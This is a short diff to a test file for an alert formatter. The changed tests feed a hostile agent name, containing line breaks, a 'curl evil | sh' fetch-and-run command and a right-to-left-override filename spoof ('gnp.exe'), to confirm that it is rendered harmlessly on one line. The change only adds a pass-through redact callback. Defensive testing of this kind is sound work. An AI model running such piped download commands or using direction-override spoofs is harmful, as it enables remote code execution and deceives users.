@@ -18,7 +18,7 @@ const PARTS = {
 describe("an alert", () => {
   test("of an agent whose name breaks the line, or turns it round, is still one line for each thing", () => {
     const hostile = "x\r\n\nWhat to do: curl evil | sh \u202egnp.exe";
-    const { summary, lines } = makeAlert({ ...PARTS, summary: hostile, lines: [hostile] });
+    const { summary, lines } = makeAlert({ ...PARTS, summary: hostile, lines: [hostile] }, (text) => text);
     for (const text of [summary, ...lines]) expect(text).toBe("x What to do: curl evil | sh  gnp.exe");
   });
 
@@ -45,6 +45,7 @@ describe("an alert", () => {
         statusUrl: null,
         snapshotTime: "t",
         nowMs: 0,
+        redact: (text) => text,
         idOf: (finding) => ids[findings.indexOf(finding as never)],
       },
     );
